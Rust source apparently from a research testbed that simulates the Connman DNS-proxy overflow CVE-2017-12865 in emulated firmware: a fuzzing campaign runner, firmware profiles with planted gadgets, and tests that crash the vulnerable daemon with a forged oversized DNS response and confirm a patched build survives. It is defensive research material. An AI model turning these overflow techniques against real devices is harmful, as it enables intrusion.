    /// the CVE-2017-12865 rediscovery signal.
    pub fn found_overflow(&self) -> bool {
        self.crashes.iter().any(|c| c.key.starts_with("redzone-"))
    }

    /// Deterministic stats document: no wall-clock, no paths — only
    /// campaign-derived numbers, so `--seed` reruns diff clean.
    pub fn stats_json(&self) -> String {
        let mut s = String::new();
        s.push_str("{\n");
        let _ = writeln!(s, "  \"arch\": \"{:?}\",", self.config.arch);
        let _ = writeln!(s, "  \"firmware\": \"{:?}\",", self.config.kind);
        let _ = writeln!(s, "  \"seed\": {},", self.config.seed);
        let _ = writeln!(s, "  \"jobs\": {},", self.config.jobs);
        let _ = writeln!(s, "  \"coverage\": {},", self.config.coverage);
        let _ = writeln!(s, "  \"total_execs\": {},", self.total_execs());
        let _ = writeln!(s, "  \"corpus_len\": {},", self.corpus.len());
        let _ = writeln!(s, "  \"unique_crashes\": {},", self.crashes.len());
        s.push_str("  \"crash_keys\": [");
        for (i, c) in self.crashes.iter().enumerate() {
            if i > 0 {
                s.push_str(", ");
            }
            let _ = write!(s, "\"{}\"", c.key);
        }
        s.push_str("],\n");
        s.push_str("  \"workers\": [\n");
        for (i, w) in self.workers.iter().enumerate() {
            let _ = write!(
                s,
                "    {{\"execs\": {}, \"corpus\": {}, \"edges\": {}, \"answered\": {}, \
                 \"rejected\": {}, \"parse_failed\": {}, \"crashed\": {}}}",
                w.execs, w.corpus_len, w.edges, w.answered, w.rejected, w.parse_failed, w.crashed
            );
            s.push_str(if i + 1 < self.workers.len() {
                ",\n"
            } else {
                "\n"
            });
        }
        s.push_str("  ]\n}\n");
        s
    }

    /// Writes `corpus/`, `crashes/`, and `stats.json` under `dir`.
    pub fn write_artifacts(&self, dir: &Path) -> io::Result<()> {
        let corpus_dir = dir.join("corpus");
        let crash_dir = dir.join("crashes");
        fs::create_dir_all(&corpus_dir)?;
        fs::create_dir_all(&crash_dir)?;
        for (i, entry) in self.corpus.iter().enumerate() {
            fs::write(corpus_dir.join(format!("input_{i:05}.bin")), entry)?;
        }
        for c in &self.crashes {
            fs::write(crash_dir.join(format!("{}.bin", c.key)), &c.input)?;
        }
        fs::write(dir.join("stats.json"), self.stats_json())?;
        Ok(())
    }
}

/// What one worker brings back for the ordered merge.
struct WorkerResult {
    stats: WorkerStats,
    corpus: Vec<Vec<u8>>,
    crashes: Vec<CrashRecord>,
}

/// A worker's cached fork server plus mutation scratch, reused across
/// execs (and across campaigns with identical identity).
///
/// Reuse is safe because everything campaign-visible lives outside this
/// cache: the corpus, coverage accumulator, and RNG streams are rebuilt
/// per campaign, and every exec starts from a snapshot rewind, so a
/// warm harness is indistinguishable from a fresh boot (the
/// `same_seed_same_report` test pins this down). What reuse buys is
/// skipping the firmware build + boot on every campaign after a
/// thread's first — the dominant fixed cost of short campaigns.
struct WorkerState {
    identity: (FirmwareKind, Arch, u64, bool, bool),
    harness: Harness,
    pool: BufPool,
}

thread_local! {
    static WORKER: RefCell<Option<WorkerState>> = const { RefCell::new(None) };
}

/// Runs one campaign and merges the worker results deterministically.
pub fn fuzz(cfg: &FuzzConfig) -> FuzzReport {
    let cfg = *cfg;
    let runner = Runner::new(cfg.jobs);
    let per_worker = cfg.max_execs / cfg.jobs as u64;
    let remainder = cfg.max_execs % cfg.jobs as u64;
    let results = runner.run((0..cfg.jobs).collect::<Vec<_>>(), |_, widx| {
        let budget = per_worker + if widx == 0 { remainder } else { 0 };
        WORKER.with(|slot| {
            let mut slot = slot.borrow_mut();
            let identity = (
                cfg.kind,
                cfg.arch,
                cfg.seed,
                cfg.coverage,
                cfg.reboot_per_exec,
            );
            let state = match slot.as_mut() {
                Some(s) if s.identity == identity => s,
                _ => {
                    *slot = Some(WorkerState {
                        identity,
                        harness: Harness::new(
                            cfg.kind,
                            cfg.arch,
                            cfg.seed,
                            cfg.coverage,
                            cfg.reboot_per_exec,
                        ),
                        pool: BufPool::new(),
                    });
                    slot.as_mut().expect("just set")
                }
            };
            run_campaign(&cfg, widx, budget, state)
        })
    });
    let mut workers = Vec::with_capacity(results.len());
    let mut corpus = Vec::new();
    let mut crashes: Vec<CrashRecord> = Vec::new();
    // Worker order, then per-worker discovery order: deterministic for
    // a given (seed, jobs) no matter how threads interleaved.
    for r in results {
        workers.push(r.stats);
        corpus.extend(r.corpus);
        for c in r.crashes {
            if !crashes.iter().any(|seen| seen.key == c.key) {
                crashes.push(c);
            }
        }
    }
    FuzzReport {
        config: cfg,
        workers,
        crashes,
        corpus,
    }
}

/// One worker's whole campaign: prime seeds, then mutate/exec/admit
/// until the budget slice is spent.
fn run_campaign(
    cfg: &FuzzConfig,
    widx: usize,
    budget: u64,
    state: &mut WorkerState,
) -> WorkerResult {
    let wseed = derive_seed(cfg.seed, widx as u64);
    let mut pick_rng = StdRng::seed_from_u64(derive_seed(wseed, 1));
    let mut mutator = Mutator::new(derive_seed(wseed, 2));
    let mut accum = CoverageAccum::new();
    let mut corpus = Corpus::new();
    let mut stats = WorkerStats::default();
    let mut crashes: Vec<CrashRecord> = Vec::new();
    let harness = &mut state.harness;

    let mut scratch = state.pool.checkout();

    // Seed corpus: always admitted (they define the baseline coverage),
    // each priming exec counted against the budget.
    for seed_input in harness.seed_inputs() {
        if stats.execs >= budget {
            break;
        }
        let out = harness.exec(&seed_input, &mut accum);
        stats.execs += 1;
        tally(&mut stats, out.tag);
        corpus.admit(&seed_input);
    }

    while stats.execs < budget {
        if corpus.is_empty() {
            // Coverage-off blind mode can theoretically admit nothing;
            // fall back to mutating a minimal header so the campaign
            // still spends its budget.
            corpus.admit(&[0u8; 12]);
        }
        let base = corpus.pick(&mut pick_rng);
        let donor = corpus.pick_donor(&mut pick_rng, base);
        mutator.mutate(base, donor, scratch.as_mut_vec());
        let out = harness.exec(scratch.as_bytes(), &mut accum);
        stats.execs += 1;
        tally(&mut stats, out.tag);
        if let Some(key) = out.crash_key {
            if !crashes.iter().any(|c| c.key == key) {
                let input = scratch.as_bytes().to_vec();
                let budget_left = budget - stats.execs;
                let mut spent = 0u64;
                let minimized = minimize(&input, |candidate| {
                    if spent >= budget_left {
                        return None;
                    }
                    spent += 1;
                    Some(harness.reproduces(candidate, &key))
                });
                // Minimization execs count against the budget but not
                // the outcome tallies — they are triage, not search.
                stats.execs += spent;
                crashes.push(CrashRecord {
                    key,
                    worker: widx,
                    input: minimized,
                    fault: out.fault.unwrap_or_default(),
                });
            }
        } else if out.novel {
            corpus.admit(scratch.as_bytes());
        }
    }

    stats.corpus_len = corpus.len();
    stats.edges = accum.edges_seen();
    let corpus_entries = corpus.entries().to_vec();
    state.pool.checkin(scratch);
    WorkerResult {
        stats,
        corpus: corpus_entries,
        crashes,
    }
}

fn tally(stats: &mut WorkerStats, tag: &str) {
    match tag {
        "answered" => stats.answered += 1,
        "rejected" => stats.rejected += 1,
        "parse-failed" => stats.parse_failed += 1,
        "crashed" | "compromised" | "hijacked-exit" => stats.crashed += 1,
        _ => {}
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn smoke_cfg(kind: FirmwareKind, arch: Arch) -> FuzzConfig {
        FuzzConfig::new(kind, arch, 0xC0FFEE, 400, 2)
    }

    #[test]
    fn campaign_rediscovers_the_overflow_on_x86() {
        let report = fuzz(&smoke_cfg(FirmwareKind::OpenElec, Arch::X86));
        assert!(
            report.found_overflow(),
            "expected a redzone crash; keys: {:?}",
            report.crash_keys()
        );
        assert_eq!(report.total_execs(), 400);
    }

    #[test]
    fn patched_campaign_finds_nothing() {
        let report = fuzz(&smoke_cfg(FirmwareKind::Patched, Arch::X86));
        assert!(
            report.crashes.is_empty(),
            "1.35 must survive the same budget; keys: {:?}",
            report.crash_keys()
        );
    }

    #[test]
    fn same_seed_same_report() {
        let cfg = smoke_cfg(FirmwareKind::OpenElec, Arch::X86);
        let a = fuzz(&cfg);
        let b = fuzz(&cfg);
        assert_eq!(a, b, "byte-identical reruns per seed");
        assert_eq!(a.stats_json(), b.stats_json());
    }

    #[test]
    fn different_seed_diverges() {
        let a = fuzz(&smoke_cfg(FirmwareKind::OpenElec, Arch::X86));
        let mut cfg = smoke_cfg(FirmwareKind::OpenElec, Arch::X86);
        cfg.seed = 0xBEEF;
        let b = fuzz(&cfg);
        assert_ne!(a.stats_json(), b.stats_json());
    }
}
