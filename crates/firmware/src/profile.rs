//! Firmware profiles and booting.

use std::fmt;

use cml_connman::{ConnmanVersion, Daemon, FrameLayout};
use cml_image::{Arch, Image};
use cml_vm::{Loader, Protections};

use crate::build::{build_image_for, GadgetAddrs};

/// The firmware families the paper surveys (§III): each pins a Connman
/// release.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum FirmwareKind {
    /// Yocto-built distributions — compile Connman 1.31.
    Yocto,
    /// OpenELEC media-streaming OS — ships Connman 1.34, the last
    /// vulnerable release.
    OpenElec,
    /// Tizen OS before 4.0 — carries a vulnerable Connman.
    Tizen,
    /// A hypothetical updated build with the patched 1.35.
    Patched,
}

impl FirmwareKind {
    /// The Connman release this firmware ships.
    pub fn connman_version(self) -> ConnmanVersion {
        match self {
            FirmwareKind::Yocto => ConnmanVersion::V1_31,
            FirmwareKind::OpenElec => ConnmanVersion::V1_34,
            FirmwareKind::Tizen => ConnmanVersion::new(1, 33),
            FirmwareKind::Patched => ConnmanVersion::V1_35,
        }
    }

    /// OS/product name used in reports.
    pub fn os_name(self) -> &'static str {
        match self {
            FirmwareKind::Yocto => "Yocto",
            FirmwareKind::OpenElec => "OpenELEC",
            FirmwareKind::Tizen => "Tizen (<4.0)",
            FirmwareKind::Patched => "patched build",
        }
    }

    /// Whether this firmware is exploitable via CVE-2017-12865.
    pub fn is_vulnerable(self) -> bool {
        self.connman_version().is_vulnerable()
    }

    /// All profiles, in the paper's order.
    pub const ALL: [FirmwareKind; 4] = [
        FirmwareKind::Yocto,
        FirmwareKind::OpenElec,
        FirmwareKind::Tizen,
        FirmwareKind::Patched,
    ];
}

impl fmt::Display for FirmwareKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} (Connman {})", self.os_name(), self.connman_version())
    }
}

/// A vulnerable network service modelled after the paper's §V list of
/// adaptable CVEs. Each differs only in the overflowable buffer's size —
/// exactly the "basic changes such as changing variables to memory
/// addresses suitable for the targeted vulnerability" the paper
/// describes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ServiceProfile {
    /// Service name.
    pub name: &'static str,
    /// The CVE this service stands in for.
    pub cve: &'static str,
    /// Size of the stack buffer its parser overflows.
    pub buf_size: usize,
}

impl ServiceProfile {
    /// Connman's DNS proxy — the paper's main target.
    pub const CONNMAN: ServiceProfile = ServiceProfile {
        name: "connman dnsproxy",
        cve: "CVE-2017-12865",
        buf_size: 1024,
    };
    /// A dnsmasq-like forwarder with a small parsing buffer.
    pub const DNSMASQ_LIKE: ServiceProfile = ServiceProfile {
        name: "dnsmasq-like forwarder",
        cve: "CVE-2017-14493 (analogue)",
        buf_size: 296,
    };
    /// A systemd-resolved-like resolver with a large parsing buffer.
    pub const RESOLVED_LIKE: ServiceProfile = ServiceProfile {
        name: "resolved-like resolver",
        cve: "CVE-2018-9445 (analogue)",
        buf_size: 2048,
    };
    /// An Asterisk-like DNS handler with a tiny buffer.
    pub const ASTERISK_LIKE: ServiceProfile = ServiceProfile {
        name: "asterisk-like dns handler",
        cve: "CVE-2018-19278 (analogue)",
        buf_size: 128,
    };

    /// All modelled services, Connman first.
    pub const ALL: [ServiceProfile; 4] = [
        ServiceProfile::CONNMAN,
        ServiceProfile::DNSMASQ_LIKE,
        ServiceProfile::RESOLVED_LIKE,
        ServiceProfile::ASTERISK_LIKE,
    ];
}

/// A firmware build: profile + architecture + the assembled binary
/// image. Build once, boot many times (each boot re-randomizes under
/// ASLR).
///
/// ```
/// use cml_firmware::{Arch, Firmware, FirmwareKind, Protections};
///
/// let fw = Firmware::build(FirmwareKind::OpenElec, Arch::Armv7);
/// let daemon = fw.boot(Protections::full(), 42);
/// assert!(daemon.is_running());
/// assert!(daemon.version().is_vulnerable());
/// ```
#[derive(Debug, Clone)]
pub struct Firmware {
    kind: FirmwareKind,
    arch: Arch,
    image: Image,
    gadgets: GadgetAddrs,
}

impl Firmware {
    /// Assembles the firmware image for a profile/architecture pair.
    pub fn build(kind: FirmwareKind, arch: Arch) -> Self {
        Self::build_variant(kind, arch, 0)
    }

    /// Assembles a different *build* of the same firmware: identical
    /// interface, shuffled code layout (see
    /// [`build_image_variant`](crate::build_image_variant)).
    pub fn build_variant(kind: FirmwareKind, arch: Arch, variant: u64) -> Self {
        // Patched firmware carries the bounds-checked `parse_response`
        // body, so static analysis can tell the builds apart the same
        // way the runtime `uncompress` switch does.
        let (image, gadgets) = build_image_for(arch, variant, !kind.is_vulnerable());
        Firmware {
            kind,
            arch,
            image,
            gadgets,
        }
    }

    /// The firmware profile.
    pub fn kind(&self) -> FirmwareKind {
        self.kind
    }

    /// Target architecture.
    pub fn arch(&self) -> Arch {
        self.arch
    }

    /// The binary image (what the attacker's recon tooling scans).
    pub fn image(&self) -> &Image {
        &self.image
    }

    /// Planted-gadget ground truth (test oracle only).
    pub fn gadget_ground_truth(&self) -> GadgetAddrs {
        self.gadgets
    }

    /// Boots the firmware: loads the image under `protections` with the
    /// per-boot `seed` and starts the Connman daemon.
    pub fn boot(&self, protections: Protections, seed: u64) -> Daemon {
        self.boot_service(protections, seed, ServiceProfile::CONNMAN)
    }

    /// Boots the firmware with the vulnerable parser configured as a
    /// *different* service (paper §V): same machinery, different frame
    /// geometry.
    pub fn boot_service(
        &self,
        protections: Protections,
        seed: u64,
        service: ServiceProfile,
    ) -> Daemon {
        let (machine, map) = Loader::new(&self.image)
            .protections(protections)
            .seed(seed)
            .load();
        let layout = FrameLayout::scaled(self.arch, service.buf_size);
        Daemon::new(machine, map, self.kind.connman_version())
            .expect("firmware images define the daemon symbols")
            .with_frame_layout(layout)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use cml_connman::{ProxyOutcome, Resolution};
    use cml_dns::forge::ResponseForge;
    use cml_dns::{Message, Name, RecordType};

    #[test]
    fn profiles_match_paper_survey() {
        assert_eq!(FirmwareKind::Yocto.connman_version(), ConnmanVersion::V1_31);
        assert_eq!(
            FirmwareKind::OpenElec.connman_version(),
            ConnmanVersion::V1_34
        );
        assert!(FirmwareKind::Tizen.is_vulnerable());
        assert!(!FirmwareKind::Patched.is_vulnerable());
    }

    #[test]
    fn boots_and_crashes_end_to_end() {
        for arch in Arch::ALL {
            let fw = Firmware::build(FirmwareKind::OpenElec, arch);
            let mut daemon = fw.boot(Protections::none(), 7);
            let name = Name::parse("update.example").unwrap();
            let Resolution::Query(qbytes) = daemon.resolve(&name, RecordType::A) else {
                panic!("cold cache");
            };
            let query = Message::decode(&qbytes).unwrap();
            let attack = ResponseForge::answering(&query)
                .with_chunked_payload(&[0x41; 1300])
                .unwrap()
                .build()
                .unwrap();
            let out = daemon.deliver_response(&attack);
            assert!(!out.daemon_alive(), "{arch}: {out}");
        }
    }

    #[test]
    fn patched_firmware_survives_same_attack() {
        for arch in Arch::ALL {
            let fw = Firmware::build(FirmwareKind::Patched, arch);
            let mut daemon = fw.boot(Protections::none(), 7);
            let name = Name::parse("update.example").unwrap();
            let Resolution::Query(qbytes) = daemon.resolve(&name, RecordType::A) else {
                panic!("cold cache");
            };
            let query = Message::decode(&qbytes).unwrap();
            let attack = ResponseForge::answering(&query)
                .with_chunked_payload(&[0x41; 1300])
                .unwrap()
                .build()
                .unwrap();
            let out = daemon.deliver_response(&attack);
            assert!(
                matches!(out, ProxyOutcome::ParseFailed { .. }),
                "{arch}: {out}"
            );
            assert!(daemon.is_running());
        }
    }

    #[test]
    fn benign_traffic_works_on_all_profiles() {
        for kind in FirmwareKind::ALL {
            let fw = Firmware::build(kind, Arch::Armv7);
            let mut daemon = fw.boot(Protections::full(), 3);
            let name = Name::parse("time.example").unwrap();
            let Resolution::Query(qbytes) = daemon.resolve(&name, RecordType::A) else {
                panic!("cold cache");
            };
            let query = Message::decode(&qbytes).unwrap();
            let ok = ResponseForge::answering(&query)
                .with_payload_labels(vec![b"time".to_vec(), b"example".to_vec()])
                .unwrap()
                .build()
                .unwrap();
            assert_eq!(
                daemon.deliver_response(&ok),
                ProxyOutcome::Answered { cached: 1 }
            );
        }
    }
}
