//! Firmware profiles and booting.

use std::fmt;
use std::sync::Arc;

use cml_connman::{
    ConnmanVersion, Daemon, DaemonSnapshot, FrameLayout, SYM_DAEMON_INIT, SYM_DAEMON_LOOP,
};
use cml_image::{Addr, Arch, Image};
use cml_vm::{ArmReg, Loader, Machine, Protections, Regs, RiscvReg};

use crate::build::{build_image_for, GadgetAddrs};

/// Instruction budget for the boot-time `daemon_init` routine.
const INIT_STEP_BUDGET: u64 = 65_536;

/// The firmware families the paper surveys (§III): each pins a Connman
/// release.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum FirmwareKind {
    /// Yocto-built distributions — compile Connman 1.31.
    Yocto,
    /// OpenELEC media-streaming OS — ships Connman 1.34, the last
    /// vulnerable release.
    OpenElec,
    /// Tizen OS before 4.0 — carries a vulnerable Connman.
    Tizen,
    /// A hypothetical updated build with the patched 1.35.
    Patched,
}

impl FirmwareKind {
    /// The Connman release this firmware ships.
    pub fn connman_version(self) -> ConnmanVersion {
        match self {
            FirmwareKind::Yocto => ConnmanVersion::V1_31,
            FirmwareKind::OpenElec => ConnmanVersion::V1_34,
            FirmwareKind::Tizen => ConnmanVersion::new(1, 33),
            FirmwareKind::Patched => ConnmanVersion::V1_35,
        }
    }

    /// OS/product name used in reports.
    pub fn os_name(self) -> &'static str {
        match self {
            FirmwareKind::Yocto => "Yocto",
            FirmwareKind::OpenElec => "OpenELEC",
            FirmwareKind::Tizen => "Tizen (<4.0)",
            FirmwareKind::Patched => "patched build",
        }
    }

    /// Whether this firmware is exploitable via CVE-2017-12865.
    pub fn is_vulnerable(self) -> bool {
        self.connman_version().is_vulnerable()
    }

    /// All profiles, in the paper's order.
    pub const ALL: [FirmwareKind; 4] = [
        FirmwareKind::Yocto,
        FirmwareKind::OpenElec,
        FirmwareKind::Tizen,
        FirmwareKind::Patched,
    ];
}

impl fmt::Display for FirmwareKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} (Connman {})", self.os_name(), self.connman_version())
    }
}

/// A vulnerable network service modelled after the paper's §V list of
/// adaptable CVEs. Each differs only in the overflowable buffer's size —
/// exactly the "basic changes such as changing variables to memory
/// addresses suitable for the targeted vulnerability" the paper
/// describes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ServiceProfile {
    /// Service name.
    pub name: &'static str,
    /// The CVE this service stands in for.
    pub cve: &'static str,
    /// Size of the stack buffer its parser overflows.
    pub buf_size: usize,
}

impl ServiceProfile {
    /// Connman's DNS proxy — the paper's main target.
    pub const CONNMAN: ServiceProfile = ServiceProfile {
        name: "connman dnsproxy",
        cve: "CVE-2017-12865",
        buf_size: 1024,
    };
    /// A dnsmasq-like forwarder with a small parsing buffer.
    pub const DNSMASQ_LIKE: ServiceProfile = ServiceProfile {
        name: "dnsmasq-like forwarder",
        cve: "CVE-2017-14493 (analogue)",
        buf_size: 296,
    };
    /// A systemd-resolved-like resolver with a large parsing buffer.
    pub const RESOLVED_LIKE: ServiceProfile = ServiceProfile {
        name: "resolved-like resolver",
        cve: "CVE-2018-9445 (analogue)",
        buf_size: 2048,
    };
    /// An Asterisk-like DNS handler with a tiny buffer.
    pub const ASTERISK_LIKE: ServiceProfile = ServiceProfile {
        name: "asterisk-like dns handler",
        cve: "CVE-2018-19278 (analogue)",
        buf_size: 128,
    };

    /// All modelled services, Connman first.
    pub const ALL: [ServiceProfile; 4] = [
        ServiceProfile::CONNMAN,
        ServiceProfile::DNSMASQ_LIKE,
        ServiceProfile::RESOLVED_LIKE,
        ServiceProfile::ASTERISK_LIKE,
    ];
}

/// A firmware build: profile + architecture + the assembled binary
/// image. Build once, boot many times (each boot re-randomizes under
/// ASLR).
///
/// ```
/// use cml_firmware::{Arch, Firmware, FirmwareKind, Protections};
///
/// let fw = Firmware::build(FirmwareKind::OpenElec, Arch::Armv7);
/// let daemon = fw.boot(Protections::full(), 42);
/// assert!(daemon.is_running());
/// assert!(daemon.version().is_vulnerable());
/// ```
#[derive(Debug, Clone)]
pub struct Firmware {
    kind: FirmwareKind,
    arch: Arch,
    image: Image,
    gadgets: GadgetAddrs,
}

impl Firmware {
    /// Assembles the firmware image for a profile/architecture pair.
    pub fn build(kind: FirmwareKind, arch: Arch) -> Self {
        Self::build_variant(kind, arch, 0)
    }

    /// Assembles a different *build* of the same firmware: identical
    /// interface, shuffled code layout (see
    /// [`build_image_variant`](crate::build_image_variant)).
    pub fn build_variant(kind: FirmwareKind, arch: Arch, variant: u64) -> Self {
        // Patched firmware carries the bounds-checked `parse_response`
        // body, so static analysis can tell the builds apart the same
        // way the runtime `uncompress` switch does.
        let (image, gadgets) = build_image_for(arch, variant, !kind.is_vulnerable());
        Firmware {
            kind,
            arch,
            image,
            gadgets,
        }
    }

    /// The firmware profile.
    pub fn kind(&self) -> FirmwareKind {
        self.kind
    }

    /// Target architecture.
    pub fn arch(&self) -> Arch {
        self.arch
    }

    /// The binary image (what the attacker's recon tooling scans).
    pub fn image(&self) -> &Image {
        &self.image
    }

    /// Planted-gadget ground truth (test oracle only).
    pub fn gadget_ground_truth(&self) -> GadgetAddrs {
        self.gadgets
    }

    /// Ground-truth `parse_response` frame geometry for this build — the
    /// layout the runtime materializes on every parse. The static
    /// analyzer never reads this; the static↔dynamic oracle compares the
    /// analyzer's *recovered* frame (buffer slot, buf→ret distance,
    /// canary placement) against it, the way a differential test would
    /// consult DWARF on a real binary.
    pub fn frame_truth(&self) -> FrameLayout {
        FrameLayout::scaled(self.arch, ServiceProfile::CONNMAN.buf_size)
    }

    /// Boots the firmware: loads the image under `protections` with the
    /// per-boot `seed` and starts the Connman daemon.
    pub fn boot(&self, protections: Protections, seed: u64) -> Daemon {
        self.boot_service(protections, seed, ServiceProfile::CONNMAN)
    }

    /// Boots the firmware with the vulnerable parser configured as a
    /// *different* service (paper §V): same machinery, different frame
    /// geometry.
    pub fn boot_service(
        &self,
        protections: Protections,
        seed: u64,
        service: ServiceProfile,
    ) -> Daemon {
        let (mut machine, map) = Loader::new(&self.image)
            .protections(protections)
            .seed(seed)
            .load();
        // Run the one-time boot routine when the image provides it. This
        // is the work a forked boot (see [`Firmware::forge`]) skips.
        if let (Some(init), Some(target)) =
            (map.symbol(SYM_DAEMON_INIT), map.symbol(SYM_DAEMON_LOOP))
        {
            run_daemon_init(&mut machine, init, target);
        }
        let layout = FrameLayout::scaled(self.arch, service.buf_size);
        Daemon::new(machine, map, self.kind.connman_version())
            .expect("firmware images define the daemon symbols")
            .with_frame_layout(layout)
    }

    /// Boots the firmware once and wraps the result in a [`BootForge`]:
    /// subsequent [`BootForge::fork`] calls rewind to the just-booted
    /// state (and reslide the layout for other seeds) instead of paying
    /// for a full load and `daemon_init` run per trial.
    pub fn forge(&self, protections: Protections, seed: u64) -> BootForge {
        self.forge_service(protections, seed, ServiceProfile::CONNMAN)
    }

    /// [`Firmware::forge`] with an explicit service profile.
    pub fn forge_service(
        &self,
        protections: Protections,
        seed: u64,
        service: ServiceProfile,
    ) -> BootForge {
        let mut daemon = self.boot_service(protections, seed, service);
        let snap = daemon.snapshot();
        BootForge {
            firmware: Arc::new(self.clone()),
            protections,
            base_seed: seed,
            daemon,
            snap,
        }
    }
}

/// Calls the image's `daemon_init` routine and scrubs the
/// layout-dependent call residue, so that a forked boot (snapshot →
/// restore → reslide) is byte-identical to a fresh boot of the same
/// seed.
fn run_daemon_init(machine: &mut Machine, init: Addr, target: Addr) {
    // The init call's return edge must be shadowed like any other (CFI).
    machine.shadow_push(target);
    match machine.arch() {
        Arch::X86 => {
            let sp = machine.regs().sp().wrapping_sub(4);
            machine.regs_mut().set_sp(sp);
            machine
                .mem_mut()
                .poke(sp, &target.to_le_bytes())
                .expect("boot stack is mapped");
        }
        Arch::Armv7 => {
            if let Regs::Arm(r) = machine.regs_mut() {
                r.set(ArmReg::LR, target);
            }
        }
        Arch::Riscv => {
            if let Regs::Riscv(r) = machine.regs_mut() {
                r.set(RiscvReg::RA, target);
            }
        }
    }
    machine.regs_mut().set_pc(init);
    machine
        .run_to(target, INIT_STEP_BUDGET)
        .expect("daemon_init runs to completion");
    // Scrub the return-address residue: the x86 `ret` leaves it just
    // below sp, ARM leaves it in lr. Both are layout-dependent values a
    // reslide could not fix up.
    match machine.arch() {
        Arch::X86 => {
            let sp = machine.regs().sp();
            machine
                .mem_mut()
                .poke(sp.wrapping_sub(4), &[0u8; 4])
                .expect("boot stack is mapped");
        }
        Arch::Armv7 => {
            if let Regs::Arm(r) = machine.regs_mut() {
                r.set(ArmReg::LR, 0);
            }
        }
        Arch::Riscv => {
            if let Regs::Riscv(r) = machine.regs_mut() {
                r.set(RiscvReg::RA, 0);
            }
        }
    }
}

/// A booted daemon plus the snapshot needed to rewind it: the
/// "boot once, fork many" primitive. One expensive boot (image load,
/// `daemon_init`) amortizes over every [`BootForge::fork`] call.
#[derive(Debug)]
pub struct BootForge {
    firmware: Arc<Firmware>,
    protections: Protections,
    base_seed: u64,
    daemon: Daemon,
    snap: DaemonSnapshot,
}

impl BootForge {
    /// The protection policy every fork boots under.
    pub fn protections(&self) -> Protections {
        self.protections
    }

    /// The seed of the boot the snapshot was taken from.
    pub fn base_seed(&self) -> u64 {
        self.base_seed
    }

    /// Rewinds the daemon to its just-booted state under `seed`.
    ///
    /// For the base seed this is a pure snapshot restore; for any other
    /// seed the restored machine is additionally reslid to the layout a
    /// fresh boot with that seed would have produced (same ASLR draws,
    /// same canary — see [`cml_vm::Loader::reslide`]).
    pub fn fork(&mut self, seed: u64) -> &mut Daemon {
        self.daemon.restore(&self.snap);
        if seed != self.base_seed {
            let loader = Loader::new(self.firmware.image())
                .protections(self.protections)
                .seed(seed);
            self.daemon
                .reslide(loader)
                .expect("reslide preserves the daemon symbols");
        }
        &mut self.daemon
    }
}

/// One boot shared copy-on-write across every worker of a campaign.
///
/// [`Firmware::forge`] boots per call site, so a fleet with `W` workers
/// and `P` firmware profiles pays `W × P` boots and keeps `W × P`
/// snapshots. `SharedForge` boots once per profile, takes one
/// [`DaemonSnapshot`] (whose pages are `Arc`-shared), and hands each
/// worker a [`BootForge`] through [`SharedForge::spawn`]:
///
/// * the snapshot **pages are shared** — a spawned forge's
///   `DaemonSnapshot` clone only bumps `Arc` refcounts, so the heavy
///   boot image exists once per profile no matter the worker count;
/// * the **dirty sets are per worker** — each spawned forge owns a live
///   daemon (one materialization copy at spawn) whose per-region dirty
///   bitmaps track only *that worker's* writes, so a fork rewinds just
///   the pages its own sessions touched.
///
/// `SharedForge` itself is `Clone + Send + Sync`: hand it to worker
/// threads and let each spawn its private forge on first use.
#[derive(Debug, Clone)]
pub struct SharedForge {
    inner: Arc<SharedForgeInner>,
}

#[derive(Debug)]
struct SharedForgeInner {
    firmware: Arc<Firmware>,
    protections: Protections,
    base_seed: u64,
    // The live prototype machine carries `Cell`-based access bookkeeping
    // and is not `Sync`; the mutex makes the *handle* shareable while
    // spawns take one short lock to copy it out.
    proto: std::sync::Mutex<Daemon>,
    snap: DaemonSnapshot,
}

impl SharedForge {
    /// Boots `firmware` once under `protections`/`seed` and snapshots
    /// the just-booted daemon for sharing.
    pub fn new(firmware: &Firmware, protections: Protections, seed: u64) -> SharedForge {
        let mut proto = firmware.boot(protections, seed);
        let snap = proto.snapshot();
        SharedForge {
            inner: Arc::new(SharedForgeInner {
                firmware: Arc::new(firmware.clone()),
                protections,
                base_seed: seed,
                proto: std::sync::Mutex::new(proto),
                snap,
            }),
        }
    }

    /// The protection policy every fork boots under.
    pub fn protections(&self) -> Protections {
        self.inner.protections
    }

    /// The seed of the shared boot.
    pub fn base_seed(&self) -> u64 {
        self.inner.base_seed
    }

    /// Materializes a worker-private [`BootForge`] backed by the shared
    /// snapshot.
    ///
    /// Costs one daemon copy (the worker's live, mutable machine); the
    /// snapshot and firmware image ride along by refcount. Forks taken
    /// from the result behave exactly like forks of a locally forged
    /// boot with the same seed — `tests` pin that equivalence.
    pub fn spawn(&self) -> BootForge {
        BootForge {
            firmware: Arc::clone(&self.inner.firmware),
            protections: self.inner.protections,
            base_seed: self.inner.base_seed,
            daemon: self.inner.proto.lock().expect("proto lock").clone(),
            snap: self.inner.snap.clone(),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use cml_connman::{ProxyOutcome, Resolution};
    use cml_dns::forge::ResponseForge;
    use cml_dns::{Message, Name, RecordType};

    #[test]
    fn profiles_match_paper_survey() {
        assert_eq!(FirmwareKind::Yocto.connman_version(), ConnmanVersion::V1_31);
        assert_eq!(
            FirmwareKind::OpenElec.connman_version(),
            ConnmanVersion::V1_34
        );
        assert!(FirmwareKind::Tizen.is_vulnerable());
        assert!(!FirmwareKind::Patched.is_vulnerable());
    }

    #[test]
    fn boots_and_crashes_end_to_end() {
        for arch in Arch::ALL {
            let fw = Firmware::build(FirmwareKind::OpenElec, arch);
            let mut daemon = fw.boot(Protections::none(), 7);
            let name = Name::parse("update.example").unwrap();
            let Resolution::Query(qbytes) = daemon.resolve(&name, RecordType::A) else {
                panic!("cold cache");
            };
            let query = Message::decode(&qbytes).unwrap();
            let attack = ResponseForge::answering(&query)
                .with_chunked_payload(&[0x41; 1300])
                .unwrap()
                .build()
                .unwrap();
            let out = daemon.deliver_response(&attack);
            assert!(!out.daemon_alive(), "{arch}: {out}");
        }
    }

    #[test]
    fn patched_firmware_survives_same_attack() {
